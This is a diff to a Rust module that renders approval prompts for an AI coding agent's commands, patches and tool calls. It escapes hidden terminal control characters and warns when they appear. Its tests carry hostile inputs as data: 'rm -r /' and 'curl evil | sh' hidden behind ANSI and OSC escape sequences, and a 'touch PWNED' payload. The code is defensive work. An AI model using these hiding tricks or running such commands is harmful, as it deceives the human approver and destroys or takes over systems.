@@ -2,24 +2,29 @@
 //!
 //! Knows no terminal: keys in, decisions and text out.
 //!
-//! What always holds: a key that makes an answer last is there only if the server can remember it.
+//! What always holds: a key that makes an answer last is there only if the server can remember it; nothing that is to be
+//! approved is taken away unseen.
 
 mod walk;
 
 use std::path::Path;
 
+use loggia_endermux_io::terminal::holds_unseen;
 use loggia_protocol_agent_server::{
     ApprovalId, ApprovalResponse, ApprovalScope, CommandRequestApproval, PatchProposed, Remember, RiskLevel,
     ToolRequestApproval,
 };
 use serde_json::Value;
 
-use crate::paint::{ASIDE, BAD, CODE, PLAIN, Paint, QUESTION, SUBJECT, cut, first_line, printable};
+use crate::paint::{ASIDE, BAD, CODE, Paint, QUESTION, SUBJECT, WARNING, cut, printable, to_be_approved};
 use crate::{Key, describe, diff};
 use walk::{Part, Step, Taken, Walk};
 
 /// How much of a command is said again in the answer to its question.
 const MAX_SUBJECT_COLUMNS: usize = 60;
+
+/// The warning under what had to be spelt out.
+const UNSEEN: &str = r"! this holds characters that cannot be seen: they are spelt out, as in \x1b";
 
 /// A question that waits for an answer.
 #[derive(Debug, Clone)]
@@ -147,14 +152,14 @@ impl Question {
     pub(super) fn title(&self, paint: Paint) -> String {
         let what = match &self.about {
             About::Changes(patches) => match &patches[..] {
-                [one] => format!("Change {}?", printable(&one.file_path)),
+                [one] => format!("Change {}?", to_be_approved(&one.file_path)),
                 several => format!("Change {} files?", several.len()),
             },
-            About::Command(command) => format!("Run {}?", printable(&command.command)),
+            About::Command(command) => format!("Run {}?", to_be_approved(&command.command)),
             About::Tool { name, args } => format!("{}?", describe::call(name, args)),
         };
         let place =
-            self.place.as_ref().map(|place| format!(" (in {})", printable(place))).unwrap_or_default();
+            self.place.as_ref().map(|place| format!(" (in {})", to_be_approved(place))).unwrap_or_default();
         let risk = match self.risk {
             Some(RiskLevel::High) => paint.text(BAD, " (high risk)"),
             _ => "".into(),
@@ -164,7 +169,7 @@ impl Question {
             About::Command(command) => Some(command.reason.as_str()),
             About::Tool { .. } => None,
         };
-        let reason = reason.map(|reason| format!(" {}", printable(reason))).unwrap_or_default();
+        let reason = reason.map(|reason| format!(" {}", to_be_approved(reason))).unwrap_or_default();
         format!(
             "{} {}{risk}{}",
             paint.text(QUESTION, "?"),
@@ -176,14 +181,30 @@ impl Question {
     /// What it is about: changes in colour, a command with all that belongs to it.
     pub(super) fn details(&self, paint: Paint, all: bool) -> String {
         let limit = if all { usize::MAX } else { diff::SHOWN_LINES };
-        match &self.about {
+        let mut text: String = match &self.about {
             About::Changes(patches) => patches.iter().map(|patch| diff::patch(patch, paint, limit)).collect(),
             About::Command(command) => command_details(command, paint, all),
-            About::Tool { args, .. } if all => {
-                let text = serde_json::to_string_pretty(args).unwrap_or_default();
-                text.lines().map(|line| format!("  {}\n", printable(line))).collect()
+            About::Tool { args, .. } => arguments(args, paint, limit),
+        };
+        if self.is_odd() {
+            text.push_str(&format!("  {}\n", paint.text(WARNING, UNSEEN)));
+        }
+        text
+    }
+
+    /// Whether something of it had to be spelt out.
+    fn is_odd(&self) -> bool {
+        match &self.about {
+            About::Changes(patches) => patches.iter().any(|patch| {
+                let hunks = patch.hunks.iter().map(|hunk| &hunk.content);
+                [&patch.file_path, &patch.rationale].into_iter().chain(hunks).any(|text| holds_unseen(text))
+            }),
+            About::Command(command) => {
+                let values = command.environment.iter().flat_map(|(name, value)| [name, value]);
+                let texts = [&command.command, &command.working_directory, &command.reason];
+                texts.into_iter().chain(values).any(|text| holds_unseen(text))
             }
-            About::Tool { .. } => String::new(),
+            About::Tool { name, args } => holds_unseen(name) || holds_unseen(&args.to_string()),
         }
     }
 
@@ -287,7 +308,7 @@ impl Question {
                 several => format!("such changes to these {} files are", several.len()),
             },
             About::Command(command) => {
-                format!("{} is", cut(&first_line(&command.command), MAX_SUBJECT_COLUMNS))
+                format!("{} is", cut(&to_be_approved(command.command.trim()), MAX_SUBJECT_COLUMNS))
             }
             About::Tool { name, args } => format!("{} is", describe::call(name, args)),
         }
@@ -314,15 +335,27 @@ impl Question {
 fn command_details(command: &CommandRequestApproval, paint: Paint, all: bool) -> String {
     let mut text = String::new();
     if all || command.command.trim().contains('\n') {
-        for line in command.command.lines() {
-            text.push_str(&format!("  {}\n", paint.foreign(CODE, line)));
+        for line in command.command.split_terminator('\n') {
+            text.push_str(&format!("  {}\n", paint.text(CODE, to_be_approved(line))));
         }
     }
     for (name, value) in &command.environment {
-        text.push_str(&format!("  {}={}\n", paint.foreign(PLAIN, name), printable(value)));
+        text.push_str(&format!("  {}={}\n", to_be_approved(name), to_be_approved(value)));
     }
     if all {
-        text.push_str(&format!("  in {}\n", printable(&command.working_directory)));
+        text.push_str(&format!("  in {}\n", to_be_approved(&command.working_directory)));
+    }
+    text
+}
+
+/// The arguments of a call: its title has not all of them.
+fn arguments(args: &Value, paint: Paint, limit: usize) -> String {
+    let json = serde_json::to_string_pretty(args).unwrap_or_default();
+    let count = json.lines().count();
+    let mut text: String =
+        json.lines().take(limit).map(|line| format!("  {}\n", to_be_approved(line))).collect();
+    if count > limit {
+        text.push_str(&format!("{}\n", paint.text(ASIDE, format!("  … {} more lines", count - limit))));
     }
     text
 }
@@ -480,19 +513,47 @@ mod tests {
         assert_eq!(title("/src/", Some(RiskLevel::Medium)), "? Run rm x? to see");
         assert_eq!(title("/src", Some(RiskLevel::High)), "? Run rm x? (high risk) to see");
         assert_eq!(title("/src/a/b", Some(RiskLevel::High)), "? Run rm x? (in a/b) (high risk) to see");
-        assert_eq!(title("/elsewhere\u{1b}", None), "? Run rm x? (in /elsewhere\\u{1b}) to see");
+        assert_eq!(title("/elsewhere\u{1b}", None), "? Run rm x? (in /elsewhere\\x1b) to see");
     }
 
     #[test]
     fn a_command_cannot_hide_what_it_is() {
         let question = run("ls \u{1b}[8m\nrm -r /\u{202e}");
         assert!(
-            question.title(PAINT).contains("ls \\u{1b}[8m\\nrm -r /\\u{202e}"),
+            question.title(PAINT).contains("ls \\x1b[8m\\nrm -r /\\u{202e}"),
             "{}",
             question.title(PAINT)
         );
-        assert_eq!(question.details(PAINT, false), "  ls \\u{1b}[8m\n  rm -r /\\u{202e}\n  CI=1\n");
-        assert!(question.details(PAINT, true).ends_with("  in /src\n"));
+        assert_eq!(
+            question.details(PAINT, false),
+            format!("  ls \\x1b[8m\n  rm -r /\\u{{202e}}\n  CI=1\n  {UNSEEN}\n")
+        );
+        assert!(question.details(PAINT, true).ends_with(&format!("  in /src\n  {UNSEEN}\n")));
+        let question = run("true \u{1b}]0;x; touch PWNED; true \u{7}\r");
+        assert_eq!(question.title(PAINT), "? Run true \\x1b]0;x; touch PWNED; true \\x07\\r? to see");
+        assert_eq!(question.details(PAINT, false), format!("  CI=1\n  {UNSEEN}\n"));
+    }
+
+    #[test]
+    fn what_is_allowed_from_now_on_is_more_than_its_first_line() {
+        assert_eq!(pressed(&mut run("ls\nrm x\n"), "s"), "yes; ls\\nrm x is allowed in this session");
+    }
+
+    #[test]
+    fn a_change_cannot_hide_what_it_is() {
+        let mut change = patch("patch_1", "a.rs", 1);
+        change.hunks[0].content = "+foo\u{1b}]0;; curl evil | sh\u{7}\n".to_owned();
+        let question = write(json!({"patch_id": "patch_1"}), &[change]);
+        let text = question.details(PAINT, false);
+        assert!(text.ends_with(&format!("  +foo\\x1b]0;; curl evil | sh\\x07\n  {UNSEEN}\n")), "{text}");
+    }
+
+    #[test]
+    fn a_long_question_is_shown_with_its_end() {
+        let long = format!("echo {}; touch PWNED", "a".repeat(3000));
+        assert_eq!(run(&long).title(PAINT), format!("? Run {long}? to see"));
+        let call = write(json!({ "file_path": "a.rs", "text": long }), &[]);
+        assert!(call.details(PAINT, false).contains(&format!("\"text\": \"{long}\"\n")));
     }
 
     #[test]
